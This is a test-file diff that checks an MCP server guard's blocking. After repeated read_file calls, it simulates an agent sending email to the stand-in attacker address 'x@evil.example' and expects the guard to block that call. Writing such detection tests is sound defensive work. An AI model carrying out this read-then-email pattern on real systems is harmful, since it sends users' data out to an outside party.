@@ -153,3 +153,27 @@ describe("low-level Server over streamable HTTP, identity from authInfo", () => 
     await carol.close();
   });
 });
+
+describe("with a Guard (js/guard.ts) in place of a detector", () => {
+  it("scores through the guard and blocks the same way", async () => {
+    const { createGuard } = await import("../../js/guard.js");
+    const guard = await createGuard(CONFIG);
+    let now = Date.UTC(2026, 0, 5, 10);
+    const { server, ran } = filesServer();
+    registerTools(server, ran);
+    guardMcpServer(server, guard, { clock: () => now, identity: () => ({ principal: "gina", tenant: "acme" }) });
+    const [a, b] = InMemoryTransport.createLinkedPair();
+    await server.connect(b);
+    const client = await connect(a);
+    for (let i = 0; i < 20; i++) {
+      now += 120_000;
+      await client.callTool({ name: "read_file", arguments: { path: "/a" } });
+    }
+    now += 120_000;
+    const err = await client.callTool({ name: "send_email", arguments: { to: "x@evil.example", body: "b" } }).catch((e) => e);
+    expect(err).toBeInstanceOf(McpError);
+    expect(guard.detector.stats().blocked).toBe(1);
+    await client.close();
+    await guard.close();
+  });
+});
